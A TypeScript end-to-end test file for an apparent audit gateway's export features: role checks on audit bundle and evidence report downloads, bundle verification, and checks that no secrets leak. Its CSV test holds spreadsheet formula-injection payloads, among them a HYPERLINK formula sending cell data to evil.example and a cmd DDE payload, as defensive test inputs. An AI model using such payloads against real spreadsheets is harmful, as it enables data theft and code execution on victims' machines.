/**
 * Exports for auditors through the gateway: a real gateway records an allowed
 * read, a held-then-approved refund and a denied delete; then the audit
 * bundle and the evidence report are asked for over REST, the console and the
 * CLI's --url mode. Only a human with the auditor role gets them: a role-less
 * human is refused with ROLE_REQUIRED, an agent (even one acting for the
 * auditor) is refused. What the auditor gets is what the store gives: the
 * bundle verifies with the real CLI, carries the events of the period and no
 * secret, and the report equals the one the CLI computes from the store.
 */
import { existsSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readBundle } from '../../src/adapters/audit-bundle-files.ts';
import { CHROMIUM, launchBrowser, signInWithKey } from '../support/browser.ts';
import { runCliHere, writeGatewayConfig, type GatewayConfigFile } from '../support/audit-gateway.ts';
import { getPage, postLogin, signIn } from '../support/console.ts';
import { DEFAULT_PRINCIPALS, eventually, startTestGateway, type TestGateway, type TestPrincipal } from '../support/gateway.ts';
import { startTestIssuer, type TestIssuer } from '../support/issuer.ts';
import { startUpstream, type Upstream } from '../support/upstream.ts';

const UPSTREAM_SECRET = 'Bearer upstream-credential-7f3a9c';
const PRINCIPALS: TestPrincipal[] = [
  ...DEFAULT_PRINCIPALS,
  { id: 'erin', kind: 'human', groups: ['audit'], roles: ['auditor'] },
  { id: 'erin-bot', kind: 'agent', actsFor: 'erin' },
];
const FROM = new Date(Date.now() - 86_400_000).toISOString().slice(0, 10);
const TO = new Date(Date.now() + 2 * 86_400_000).toISOString().slice(0, 10);
const SLOW = 60_000;

let upstream: Upstream;
let idp: TestIssuer;
let cfg: GatewayConfigFile;
let gw: TestGateway;

const cli = (...args: string[]) => runCliHere(args);
const raw = (who: string | null, path: string) => fetch(`${gw.url}${path}`, { headers: who ? { authorization: `Bearer ${cfg.keys[who]}` } : {} });
/** The log's verifier key, as an operator hands it to an auditor: its .pub file. */
const pinnedKey = () => join(cfg.keyDir, 'keys', readdirSync(join(cfg.keyDir, 'keys')).find((f) => f.endsWith('.pub'))!);

beforeAll(async () => {
  upstream = await startUpstream((call) => ({ status: 200, body: { echo: call.url } }));
  // Workload tokens name their agent by a claim the workload's own side may choose (a job, a repository name).
  idp = await startTestIssuer('/workloads');
  cfg = await writeGatewayConfig(
    `identity:
  issuers:
    - issuer: ${idp.issuer}
      audience: countersign
      principal: { kind: agent, id: sub }
connections:
  - name: billing-api
    kind: http
    url: ${upstream.url}/api
    headers: { authorization: "${UPSTREAM_SECRET}" }
policy:
  default: deny
  rules:
    - id: reads
      when: connection.name == "billing-api" && !facts.writes
      effect: allow
    - id: no-deletes
      when: facts.http.method == "DELETE"
      effect: deny
    - id: writes
      when: facts.writes
      effect: approve
      approvers: [{ groups: [sre], count: 1 }]
`,
    { origin: 'countersign.test/e2e-exports', principals: PRINCIPALS },
  );
  gw = await cfg.start();
  expect((await gw.as('deploy-bot', '/v1/actions', { body: { connection: 'billing-api', input: { method: 'GET', path: '/invoices' }, reason: 'read' } })).body.status).toBe('succeeded');
  const held = await gw.as('deploy-bot', '/v1/actions', { body: { connection: 'billing-api', input: { method: 'POST', path: '/refunds', body: { amount: 42 } }, reason: 'refund' } });
  expect(held.status).toBe(202);
  expect((await gw.as('alice', `/v1/requests/${held.body.id}/reviews`, { body: { verdict: 'approve', comment: 'ok' } })).status).toBe(200);
  await eventually(async () => ((await gw.as('deploy-bot', `/v1/requests/${held.body.id}`)).body.status === 'succeeded' ? true : undefined));
  expect((await gw.as('deploy-bot', '/v1/actions', { body: { connection: 'billing-api', input: { method: 'DELETE', path: '/customers/7' }, reason: 'cleanup' } })).status).toBe(403);
}, SLOW);

afterAll(async () => {
  await gw?.stop();
  await upstream?.close();
  await idp?.close();
  await cfg?.remove();
});

describe('who may export, over REST', () => {
  const endpoints = [`/v1/audit/export?from=${FROM}&to=${TO}`, `/v1/evidence/report?from=${FROM}&to=${TO}&framework=soc2`];

  it('a human without a role is refused with ROLE_REQUIRED on both', async () => {
    for (const path of endpoints) {
      const res = await gw.as('dave', path);
      expect(res.status, path).toBe(403);
      expect(res.body.error.code, path).toBe('ROLE_REQUIRED');
    }
  });

  it('an agent is refused, and so is an agent acting for the auditor', async () => {
    for (const agent of ['deploy-bot', 'erin-bot']) {
      for (const path of endpoints) {
        const res = await raw(agent, path);
        expect(res.status, `${agent} ${path}`).toBe(403);
        expect(res.headers.get('content-type'), `${agent} ${path}`).toMatch(/^application\/json/);
        expect(['ROLE_REQUIRED', 'FORBIDDEN'], `${agent} ${path}`).toContain(((await res.json()) as { error: { code: string } }).error.code);
      }
    }
  });

  it('without a credential: 401', async () => {
    for (const path of endpoints) expect((await raw(null, path)).status, path).toBe(401);
  });

  it('the auditor gets a tar attachment and a JSON report', async () => {
    const bundle = await raw('erin', endpoints[0]!);
    expect(bundle.status).toBe(200);
    expect(bundle.headers.get('content-type')).toBe('application/x-tar');
    expect(bundle.headers.get('content-disposition')).toMatch(/^attachment; filename="countersign-audit-1-\d+\.tar"$/);
    const report = await gw.as('erin', endpoints[1]!);
    expect(report.status).toBe(200);
    expect(report.body.format).toBe('countersign-evidence/1');
  });

  it('HEAD of the bundle builds nothing: refused', async () => {
    const res = await fetch(`${gw.url}/v1/audit/export`, { method: 'HEAD', headers: { authorization: `Bearer ${cfg.keys['erin']}` } });
    expect(res.status).toBe(400);
    expect(res.headers.get('content-type')).not.toBe('application/x-tar');
  });

  it('bad periods and unknown parameters are refused with INVALID_REQUEST', async () => {
    for (const path of [
      '/v1/audit/export?from=yesterday',
      '/v1/audit/export?from=0',
      '/v1/audit/export?to=2026-07-01T00:00:00',
      '/v1/audit/export?from=1&limit=5',
      `/v1/evidence/report?from=${FROM}&to=${TO}`,
      `/v1/evidence/report?from=${TO}&to=${FROM}&framework=soc2`,
      `/v1/evidence/report?from=${FROM}&to=${TO}&framework=pci`,
      `/v1/evidence/report?from=${FROM}&to=${TO}&framework=soc2&format=pdf`,
      `/v1/evidence/report?from=${FROM}&to=${TO}&framework=soc2&from=1`,
    ]) {
      const res = await gw.as('erin', path);
      expect(res.status, path).toBe(400);
      expect(res.body.error.code, path).toBe('INVALID_REQUEST');
    }
  });
});

describe('what the auditor downloads', () => {
  it('the bundle verifies with the real CLI, holds the events of the store, and no secret', async () => {
    const res = await raw('erin', '/v1/audit/export');
    const bytes = Buffer.from(await res.arrayBuffer());
    const path = join(cfg.dir, 'rest.tar');
    writeFileSync(path, bytes);

    const verified = await cli('audit', 'verify', path, '--verifier-key', pinnedKey());
    expect(verified.stdout).toMatch(/^bundle OK: events 1–\d+ \(\d+\) of countersign\.test\/e2e-exports, written \S+ to \S+; .* with the pinned key/);
    expect(verified.code).toBe(0);

    const types = Buffer.from((await readBundle(path)).events).toString('utf8').trim().split('\n').map((l) => (JSON.parse(l) as { type: string }).type);
    for (const t of ['request.submitted', 'review.recorded', 'request.approved', 'request.succeeded', 'request.denied']) expect(types, t).toContain(t);

    // The same events, byte for byte, as the operator's export from the store.
    const stored = await cli('audit', 'export', '--config', cfg.configPath, '--out', join(cfg.dir, 'store.tar'), '--to', String(types.length));
    expect(stored.code).toBe(0);
    expect(Buffer.from((await readBundle(join(cfg.dir, 'store.tar'))).events).equals(Buffer.from((await readBundle(path)).events))).toBe(true);

    const text = bytes.toString('latin1');
    const secrets = [
      UPSTREAM_SECRET,
      'upstream-credential-7f3a9c',
      ...Object.values(cfg.keys),
      ...[...readFileSync(cfg.configPath, 'utf8').matchAll(/apiKeys: \["([^"]+)"\]/g)].map((m) => m[1]!),
      readFileSync(join(cfg.keyDir, 'audit-hmac.key'), 'utf8').trim(),
      ...readdirSync(cfg.keyDir)
        .filter((f) => f.endsWith('.key') && f !== 'audit-hmac.key')
        .map((f) => readFileSync(join(cfg.keyDir, f), 'utf8').replace(/-----[A-Z ]+-----/g, '').replace(/\s/g, '')),
    ];
    expect(secrets.length).toBeGreaterThan(PRINCIPALS.length * 2 + 2);
    for (const s of secrets) expect(text.includes(s), `a secret of ${s.length} characters is in the bundle`).toBe(false);
  }, SLOW);

  it('the evidence report equals the one the CLI computes from the store, and carries no secret', async () => {
    const rest = await gw.as('erin', `/v1/evidence/report?from=${FROM}&to=${TO}&framework=soc2`);
    expect(rest.status).toBe(200);
    const out = join(cfg.dir, 'store-report.html');
    const r = await cli('evidence', 'report', '--config', cfg.configPath, '--from', FROM, '--to', TO, '--framework', 'soc2', '--out', out);
    expect(r.code).toBe(0);
    const stored = JSON.parse(readFileSync(join(cfg.dir, 'store-report.json'), 'utf8')) as Record<string, unknown>;
    const { generatedAt: _a, ...fromStore } = stored;
    const { generatedAt: _b, ...fromGateway } = rest.body as Record<string, unknown>;
    expect(fromGateway).toEqual(fromStore);
    expect((fromGateway['summary'] as { privilegedActions: number }).privilegedActions).toBe(1);
    expect((fromGateway['sod'] as { approvedRequests: number }).approvedRequests).toBe(1);
    const text = JSON.stringify(rest.body);
    for (const s of ['upstream-credential-7f3a9c', ...Object.values(cfg.keys)]) expect(text.includes(s)).toBe(false);
  }, SLOW);

  it('the report as HTML is the self-contained page, under its own strict policy', async () => {
    const res = await raw('erin', `/v1/evidence/report?from=${FROM}&to=${TO}&framework=gdpr&format=html`);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/html; charset=utf-8');
    expect(res.headers.get('content-security-policy')).toBe("default-src 'none'; style-src 'unsafe-inline'; frame-ancestors 'none'; base-uri 'none'; form-action 'none'");
    const page = await res.text();
    expect(page).toMatch(/^<!doctype html>/i);
    expect(page).toContain('GDPR');
  });
});

describe('the CLI with --url', () => {
  it('a human without a role: exit 1, ROLE_REQUIRED, no file', async () => {
    const out = join(cfg.dir, 'dave.tar');
    const r = await cli('audit', 'export', '--url', gw.url, '--key', cfg.keys['dave']!, '--out', out);
    expect(r.stderr).toContain('countersign: ROLE_REQUIRED: the audit trail needs the role auditor or admin');
    expect(r.code).toBe(1);
    expect(existsSync(out)).toBe(false);
    expect(readdirSync(cfg.dir).filter((f) => f.includes('dave'))).toEqual([]);

    const ev = await cli('evidence', 'report', '--url', gw.url, '--key', cfg.keys['dave']!, '--from', FROM, '--to', TO, '--framework', 'soc2', '--out', join(cfg.dir, 'dave.html'));
    expect(ev.stderr).toContain('countersign: ROLE_REQUIRED: an evidence report needs the role auditor or admin');
    expect(ev.code).toBe(1);
    expect(existsSync(join(cfg.dir, 'dave.html'))).toBe(false);
  }, SLOW);

  it('an agent acting for the auditor: exit 1, refused', async () => {
    const r = await cli('audit', 'export', '--url', gw.url, '--key', cfg.keys['erin-bot']!, '--out', join(cfg.dir, 'bot.tar'));
    expect(r.stderr).toMatch(/countersign: (ROLE_REQUIRED|FORBIDDEN): /);
    expect(r.code).toBe(1);
    expect(existsSync(join(cfg.dir, 'bot.tar'))).toBe(false);
  }, SLOW);

  it('the auditor: a bundle (tar or directory) that verifies offline, and the report the gateway computes', async () => {
    const out = join(cfg.dir, 'erin.tar');
    const r = await cli('audit', 'export', '--url', gw.url, '--key', cfg.keys['erin']!, '--out', out, '--from', FROM, '--to', TO);
    expect(r.stdout).toMatch(/^wrote .*erin\.tar: events 1–\d+ \(\d+\), \d+ signed checkpoints, origin countersign\.test\/e2e-exports/);
    expect(r.code).toBe(0);
    const verified = await cli('audit', 'verify', out, '--verifier-key', pinnedKey());
    expect(verified.stdout).toContain('bundle OK');
    expect(verified.code).toBe(0);

    const dir = join(cfg.dir, 'erin-dir');
    expect((await cli('audit', 'export', '--url', gw.url, '--key', cfg.keys['erin']!, '--out', dir)).code).toBe(0);
    expect(readdirSync(dir).sort()).toEqual(['README.txt', 'checkpoints', 'events.jsonl', 'keys.txt', 'manifest.json']);
    expect((await cli('audit', 'verify', dir, '--verifier-key', pinnedKey())).code).toBe(0);

    const html = join(cfg.dir, 'erin-report.html');
    const ev = await cli('evidence', 'report', '--url', gw.url, '--key', cfg.keys['erin']!, '--from', FROM, '--to', TO, '--framework', 'soc2', '--out', html);
    expect(ev.code).toBe(0);
    expect(readFileSync(html, 'utf8')).toMatch(/^<!doctype html>/i);
    const { generatedAt: _a, ...viaCli } = JSON.parse(readFileSync(join(cfg.dir, 'erin-report.json'), 'utf8')) as Record<string, unknown>;
    const { generatedAt: _b, ...viaRest } = (await gw.as('erin', `/v1/evidence/report?from=${FROM}&to=${TO}&framework=soc2`)).body as Record<string, unknown>;
    expect(viaCli).toEqual(viaRest);
  }, SLOW);

  it('--url without --out is a usage error', async () => {
    const r = await cli('audit', 'export', '--url', gw.url, '--key', cfg.keys['erin']!);
    expect(r.stderr).toContain('--url exports a bundle');
    expect(r.code).toBe(2);
  }, SLOW);
});

describe('the console', () => {
  it('a human without a role sees no download forms and is refused both downloads', async () => {
    const dave = await signIn(gw.url, cfg.keys['dave']!);
    expect(await (await getPage(gw.url, dave, '/audit')).text()).not.toContain('Download bundle');
    for (const path of [`/audit/bundle?from=${FROM}&to=${TO}`, `/audit/evidence?from=${FROM}&to=${TO}&framework=soc2&format=html`]) {
      const res = await getPage(gw.url, dave, path);
      expect(res.status, path).toBe(403);
      expect(await res.text(), path).toContain('<strong>ROLE_REQUIRED</strong>');
    }
  });

  it('an agent cannot sign in, and without a session the downloads send to the sign-in page', async () => {
    expect((await postLogin(gw.url, cfg.keys['erin-bot']!)).status).toBe(403);
    const res = await getPage(gw.url, undefined, `/audit/bundle?from=${FROM}`);
    expect(res.status).toBe(303);
    expect(res.headers.get('location')).toMatch(/^\/login\?next=/);
  });

  it('the auditor downloads the bundle and opens the report from the Audit page', async () => {
    const erin = await signIn(gw.url, cfg.keys['erin']!);
    const page = await (await getPage(gw.url, erin, '/audit')).text();
    expect(page).toContain('action="/audit/bundle"');
    expect(page).toContain('action="/audit/evidence"');

    const bundle = await getPage(gw.url, erin, `/audit/bundle?from=${FROM}&to=`);
    expect(bundle.status).toBe(200);
    expect(bundle.headers.get('content-type')).toBe('application/x-tar');
    const path = join(cfg.dir, 'console.tar');
    writeFileSync(path, Buffer.from(await bundle.arrayBuffer()));
    expect((await cli('audit', 'verify', path, '--verifier-key', pinnedKey())).code).toBe(0);

    const report = await getPage(gw.url, erin, `/audit/evidence?from=${FROM}&to=${TO}&framework=iso27001&format=html`);
    expect(report.status).toBe(200);
    expect(report.headers.get('content-security-policy')).toContain("default-src 'none'");
    expect(await report.text()).toContain('ISO');
    const json = await getPage(gw.url, erin, `/audit/evidence?from=${FROM}&to=${TO}&framework=soc2&format=json`);
    expect(json.headers.get('content-disposition')).toMatch(/^attachment; filename="countersign-evidence-soc2-/);
    expect(((await json.json()) as { format: string }).format).toBe('countersign-evidence/1');

    const bad = await getPage(gw.url, erin, '/audit/evidence?from=soon&to=later&framework=soc2');
    expect(bad.status).toBe(400);
    expect(await bad.text()).toContain('INVALID_REQUEST');
  }, SLOW);
});

describe.skipIf(!existsSync(CHROMIUM))('the console in a browser', () => {
  it('the auditor fills the period, downloads a bundle that verifies, and opens the report', async () => {
    const browser = await launchBrowser();
    try {
      const { page } = await browser.page();
      await signInWithKey(page, gw.url, cfg.keys['erin']!);
      await page.goto(`${gw.url}/audit`);
      await page.fill('#b-from', FROM);
      await page.fill('#b-to', TO);
      const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Download bundle' }).click()]);
      expect(download.suggestedFilename()).toMatch(/^countersign-audit-1-\d+\.tar$/);
      const path = join(cfg.dir, 'browser.tar');
      await download.saveAs(path);
      expect((await cli('audit', 'verify', path, '--verifier-key', pinnedKey())).code).toBe(0);

      await page.fill('#e-from', FROM);
      await page.fill('#e-to', TO);
      await page.selectOption('#e-framework', 'soc2');
      await page.getByRole('button', { name: 'Evidence report' }).click();
      await page.waitForURL(/\/audit\/evidence\?/);
      expect(await page.locator('h1').textContent()).toContain('SOC 2');
    } finally {
      await browser.close();
    }
  }, SLOW);
});

describe('a bounded period', () => {
  it('more events than audit.maxExportEvents: PERIOD_TOO_LARGE on both, nothing sent', async () => {
    const small = await startTestGateway(
      `connections:
  - name: billing-api
    kind: http
    url: ${upstream.url}/api
policy:
  default: allow
  rules: []
`,
      { principals: PRINCIPALS, audit: 'maxExportEvents: 3' },
    );
    try {
      for (const path of ['/a', '/b', '/c']) await small.as('deploy-bot', '/v1/actions', { body: { connection: 'billing-api', input: { method: 'GET', path }, reason: 'read' } });
      for (const path of ['/v1/audit/export', `/v1/evidence/report?from=${FROM}&to=${TO}&framework=soc2`]) {
        const res = await small.as('erin', path);
        expect(res.status, path).toBe(422);
        expect(res.body.error.code, path).toBe('PERIOD_TOO_LARGE');
        expect(res.body.error.limit, path).toBe(3);
      }
      // A period within the limit still goes.
      expect((await small.as('erin', '/v1/audit/export?from=1&to=3')).status).toBe(200);
    } finally {
      await small.stop();
    }
  }, SLOW);
});

describe('audit export --format csv', () => {
  it('a cell a spreadsheet would run as a formula (=, +, -, @, tab, CR first) is written as text', async () => {
    const ids = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+cmd|'/C.calc'!A0", '-2+3', '@SUM(A1:A9)'];
    for (const sub of ids) {
      const token = await idp.sign({ aud: 'countersign', sub });
      const res = await fetch(`${gw.url}/v1/actions`, { method: 'POST', headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' }, body: JSON.stringify({ connection: 'billing-api', input: { method: 'GET', path: '/invoices' }, reason: 'read' }) });
      expect(res.status, `${sub} ${await res.clone().text()}`).toBe(200);
    }
    const r = await cli('audit', 'export', '--config', cfg.configPath, '--format', 'csv');
    expect(r.code).toBe(0);
    const cells = r.stdout.split('\n').flatMap((line) => line.split(','));
    for (const sub of ids) expect(r.stdout, sub).toContain(sub.includes('"') || sub.includes(',') ? `"'${sub.replace(/"/g, '""')}"` : `'${sub}`);
    expect(cells.filter((c) => /^"?[=+\-@\t\r]/.test(c))).toEqual([]);
  }, SLOW);
});

describe('canonical JSON of what an agent sends', () => {
  // (A `__proto__` key is refused before it is stored: http-smuggling-probes.test.ts; so is text with a lone surrogate,
  // which has no UTF-8 form: http-lone-surrogates.test.ts.)
  it('numbers, line separators, object-member and index-like keys are stored so that the chain verifies', async () => {
    const body = String.raw`{"connection":"billing-api","reason":"r\u2028x","input":{"method":"POST","path":"/refunds","body":{"constructor":{"admin":true},"10":1,"9":[-0,1e21,1e-7,5e-324,123456789012345678901234567890],"\u2029":"\u2028","e\u0301":1,"\u00e9":2}}}`;
    const res = await fetch(`${gw.url}/v1/actions`, { method: 'POST', headers: { authorization: `Bearer ${cfg.keys['deploy-bot']}`, 'content-type': 'application/json' }, body });
    expect(res.status).toBe(202);
    const jsonl = (await cli('audit', 'export', '--config', cfg.configPath, '--format', 'jsonl')).stdout;
    const submitted = jsonl.split('\n').find((l) => l.includes('"type":"request.submitted"') && l.includes('"constructor"'));
    expect(submitted).toContain(String.raw`"body":{"10":1,"9":[0,1e+21,1e-7,5e-324,1.2345678901234568e+29],"constructor":{"admin":true},"e` + '\u0301' + String.raw`":1`);
    expect(submitted).toContain('"\u2029":"\u2028"');
    // The export signs the head, so the new events are under a checkpoint too.
    const out = join(cfg.dir, 'canonical.tar');
    expect((await cli('audit', 'export', '--config', cfg.configPath, '--out', out)).code).toBe(0);
    expect((await cli('audit', 'verify', out, '--verifier-key', pinnedKey())).stdout).toMatch(/^bundle OK/);
    const r = await cli('audit', 'verify', '--config', cfg.configPath);
    expect(r.stdout).toMatch(/^audit chain OK/);
    expect(r.code).toBe(0);
  }, SLOW);
});
